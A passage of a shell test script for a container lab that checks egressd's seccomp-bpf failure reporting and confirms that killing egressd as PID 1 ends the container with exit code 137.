expect_grep "$CTR_DIR/seccomp/err" '^FAIL +seccomp-bpf ' "egressd check's seccomp-bpf line says why"
expect_fgrep "$CTR_DIR/seccomp/err" "(run: egressd check)" "and the entrypoint points to egressd check"
expect_no_grep "$CTR_DIR/seccomp/out" COMMAND-RAN "the command never ran"

lab_section "killing egressd ends the container"
ctr_exec on -- sh -c 'sleep 600 </dev/null >/dev/null 2>&1 & echo "bg=$!"'
bg=$(ctr_host_pid on "$(sed -n 's/^bg=//p' "$LAB_OUT")")
[ -n "$bg" ] && lab_ok "(an exec session's process runs: host pid $bg)" ||
	lab_fail "(an exec session's process runs)" "not found in the container"
kill -9 "$ON_PID"
ctr_wait_exit on 15
expect_ctr_rc on 137 "SIGKILL to egressd (PID 1) from the host: the container exits 137"
if [ -n "$bg" ] && ! lab_alive "$bg" && [ -z "$(ctr_procs on)" ]; then
	lab_ok "and nothing of the container runs on without it"
else
	lab_fail "and nothing of the container runs on without it" "left: $(ctr_procs on)"
fi

ctr_delete on
lab_finish
